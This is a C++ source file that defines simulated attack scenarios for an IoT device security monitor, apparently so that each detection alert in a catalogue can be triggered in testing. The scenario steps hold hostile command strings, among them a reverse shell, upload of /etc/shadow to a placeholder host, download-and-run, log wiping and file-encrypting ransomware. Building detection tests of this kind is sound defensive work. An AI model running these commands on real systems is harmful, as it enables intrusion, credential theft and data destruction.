// The scripts. Together they raise every alert of the catalogue that an hour or two can raise (A35, silence,
// takes three days).
#include "simulate/attack.hpp"

namespace fieldwatch::simulate {
namespace {

using enum ActKind;

constexpr std::string_view kShell = "/bin/sh", kBusybox = "/bin/busybox", kTemp = "/tmp/mips";

constexpr Step kBot[] = {
    {0, Login, "{drop}", "", "root", "", 0, 20, 3, false},
    {5, Login, "{drop}", "", "root", "IoT_Bruteforce_Success"},
    {10, Process, "/bin/busybox ECCHI", kBusybox, "root", "IoT_CommonBots"},
    {5, Process, "uname -a; cat /proc/cpuinfo; cat /proc/mounts", kShell, "root", "IoT_LinuxReconnaissance"},
    {4, Process, "cd /tmp; wget http://{drop}/bins.sh; chmod 777 bins.sh; sh bins.sh", kShell, "root",
     "IoT_DownloadFileThenRun"},
    {6, Process, "wget -O /tmp/mips http://{evil}/mips", "/usr/bin/wget", "root", "IoT_PossibleMalware"},
    {9, Process, "/tmp/mips telnet", kTemp, "root", "IoT_LinuxBackdoor"},
    {4, Process, "iptables -F", "/sbin/iptables", "root", "IoT_DisableFirewall"},
    {4, Process, "rm -f /var/log/messages /var/log/auth.log", "/bin/rm", "root", "IoT_RemovelOfSystemLogs"},
    {4, Process, "history -c; rm -f ~/.bash_history", kShell, "root", "IoT_ClearHistoryFile"},
    {9, Connection, "{evil}", kTemp, "", "IoT_TiConnection", 4'444},
    {60, Connection, "100.65.7.{i}", kTemp, "", "IoT_X_NetworkScan", 23, 200, 1},
};
constexpr Step kMiner[] = {
    {0, Process, "docker run -d --privileged -v /:/host alpine sh", "/usr/bin/docker", "root",
     "IoT_PrivilegedContainer"},
    {20, Process, "docker run -d xmrig/xmrig -o pool.example:3333", "/usr/bin/docker", "root",
     "IoT_CryptoMinerContainer"},
    {30, Process, "/opt/x/cpuminer-multi -a cryptonight -o stratum+tcp://{drop}:3333 -u w",
     "/opt/x/cpuminer-multi", "root", "IoT_CryptoMiner"},
    {10, Process, "nohup /tmp/.x/m --quiet", "/usr/bin/nohup", "root", "IoT_SuspiciousNohup"},
    {10, Process, "dockerd -H tcp://0.0.0.0:2375", "/usr/bin/dockerd", "root", "IoT_ExposedDocker"},
};
constexpr Step kIntruder[] = {
    {0, Process, "bash -i >& /dev/tcp/{drop}/4444 0>&1", "/bin/bash", "root", "IoT_ReverseShell"},
    {30, Process, "useradd -o -u 0 -M sysd", "/usr/sbin/useradd", "root", "IoT_SuspiciousUseradd"},
    {20, Process, "ssh -f -N -R 2222:localhost:22 u@{drop}", "/usr/bin/ssh", "root", "IoT_PortForwarding"},
    {20, Process, "auditctl -e 0", "/sbin/auditctl", "root", "IoT_DisableAuditdLogging"},
    {20, Process, "nmap -sS 10.0.0.0/24", "/usr/bin/nmap", "root", "IoT_KnownAttackTools"},
    {20, Process, "./mimipenguin.sh", kShell, "root", "IoT_CredentialAccessTools"},
    {20, Process, "gcc -o /tmp/exploit /tmp/exploit.c", "/usr/bin/gcc", "root", "IoT_SuspiciousCompilation"},
    {20, Process, "echo -ne \\x7f\\x45\\x4c\\x46\\x01 > /tmp/.d", kShell, "root", "IoT_BinaryCommandLine"},
    {20, Process, "cp /tmp/.ps /bin/ps", "/bin/cp", "root", "IoT_OverridingCommonFiles"},
    {20, Process, "/tmp/report.pdf ", "/tmp/report.pdf ", "root", "IoT_ExecuteFileWithTrailingSpace"},
    {20, Process, "cat /home/admin/.bash_history", "/bin/cat", "root", "IoT_ReadingHistoryFile"},
    {20, Process, "python3 /opt/tool.sh", "/usr/bin/python3", "root", "IoT_ScriptInterpreterMismatch"},
    {20, Process, "curl -T /etc/shadow http://{drop}/", "/usr/bin/curl", "root", "IoT_EgressData"},
};
constexpr Step kWebShell[] = {
    {0, Process, "sh -c whoami", kShell, "www-data", "IoT_WebShell"},
    {30, Process, "cat .htaccess", "/bin/cat", "www-data", "IoT_AccessingHtaccessFile"},
};
constexpr Step kRansom[] = {
    {0, Process, "find /home -type f -exec openssl enc -aes-256-cbc -in {} -out {}.enc -k x ; -exec rm {} ;",
     "/usr/bin/find", "root", "IoT_Ransomware"},
    {60, Process, "rm -rf /home", "/bin/rm", "root", "IoT_FairwareMalware"},
};
constexpr Step kAtTheDevice[] = {
    {0, Login, "", "", "root", "IoT_FailedLocalLogin", 0, 1, 0, false},
    {30, Login, "", "", "root", "IoT_SucessfulLocalLogin"},
    {30, Users, "root:0:root;admin:1000:admin,adm;guest:1005:guest", "", "", ""},
    {60, Users, "root:0:root;admin:1000:admin;guest:1005:guest,sudo", "", "", "IoT_LocalUserAddedToGroup"},
    {60, Users, "root:0:root;admin:1000:admin;guest:1005:guest", "", "", "IoT_LocalUserRemovedFromGroup"},
    {60, Users, "root:0:root;admin:1000:admin", "", "", "IoT_LocalUserDeleted"},
    {30, Peripheral, "", "", "connect", "IoT_USBConnection"},
    {30, Peripheral, "", "", "disconnect", "IoT_UsbDisconnection"},
    {30, Peripheral, "eth1", "", "connect", "IoT_EthernetConnection"},
    {30, Peripheral, "eth1", "", "disconnect", "IoT_EthernetDisconnection"},
    {30, File, "/etc/app/new.conf", "", "Created", "IoT_FileCreated"},
    {30, File, "/etc/app/app.conf", "", "Modified", "IoT_FileModified"},
    {30, File, "/etc/app/old.conf", "", "Deleted", "IoT_FileDeleted"},
};
constexpr Step kGuessing[] = {
    {0, Login, "{drop}", "", "admin", "IoT_Bruteforce_Fail", 0, 25, 4, false},
};
constexpr Step kNames[] = {
    {0, Lookup, "cdn.evil.example", "/usr/bin/device-app", "", "IoT_MaliciousNameQueriesDetection"},
    {20, ConfigurationError, "highPriorityMessageFrequency", "", "", "IoT_AgentConfigurationError"},
};
constexpr Step kStolenIdentity[] = {
    {0, Operation, "deviceConnect", "", "CertThumbprintMismatch", "IoT_Cert_Print_Mismatch"},
    {30, Operation, "deviceConnect", "", "CertExpired", "IoT_Cert_Expired"},
    {30, Operation, "deviceConnect", "", "SasExpired", "IoT_Expired_SAS_Token"},
    {30, Operation, "deviceConnect", "", "SasBadSignature", "IoT_Invalid_SAS_Token"},
};
constexpr std::string_view kWrite = "Microsoft.Devices/iotHubs/certificates/Write",
                           kDelete = "Microsoft.Devices/iotHubs/certificates/Delete";
constexpr Step kHubTakenOver[] = {
    {0, ControlPlane, kWrite, "", "Success", "IoT_CertificateSuccessfullyAddedToHub"},
    {30, ControlPlane, kDelete, "", "Success", "IoT_CertificateSuccessfullyDeletedFromHub"},
    {30, ControlPlane, kWrite, "", "Failure", "Hub_CertificateFailedToBeAddedToHub"},
    {30, ControlPlane, kDelete, "", "Failure", "IoT.Hub_CertificateFailedToBeDeletedFromHub"},
    {30, ControlPlane, "Microsoft.Insights/diagnosticSettings/Write", "", "Success",
     "IoT_DiagnosticSettingAddedOrEditedOnHub"},
    {30, ControlPlane, "Microsoft.Insights/diagnosticSettings/Delete", "", "Success",
     "IoT_DiagnosticSettingDeletedFromHub"},
};
// Behaviour only: no command line, no indicator, no refused login gives these away.
constexpr Step kBeacon[] = {
    {0, Connection, "198.51.100.90", "/usr/bin/device-app", "", "IoT_X_Beacon", 6'667, 50, 60},
};
constexpr Step kFlood[] = {
    {0, Connection, "198.51.100.91", "/usr/bin/device-app", "", "IoT_X_Flood", 80, 3'000, 0},
};

constexpr AttackScript kScripts[] = {
    {"bot",
     "A telnet bot guesses a password, loads itself, opens the firewall, wipes logs, calls home and scans.",
     kBot},
    {"miner", "A miner comes in containers and as a program.", kMiner},
    {"intruder", "A person keeps a way back in, looks for secrets and sends them out.", kIntruder},
    {"web-shell", "Somebody runs commands through the device's web server.", kWebShell},
    {"ransom", "Files are encrypted and removed.", kRansom},
    {"at-the-device", "Somebody stands at the device: console, accounts, plugs, configuration.",
     kAtTheDevice},
    {"guessing", "Passwords are tried and none fits.", kGuessing},
    {"names", "A name that indicators know is asked for; the agent's configuration is spoiled.", kNames},
    {"stolen-identity", "A stranger tries to be the device.", kStolenIdentity},
    {"hub-taken-over", "Certificates and diagnostic settings of the hub are changed.", kHubTakenOver},
    {"beacon", "The device calls an address every minute.", kBeacon},
    {"flood", "The device takes part in a flood.", kFlood},
};

}  // namespace

std::span<const AttackScript> attack_scripts() {
    return kScripts;
}

}  // namespace fieldwatch::simulate
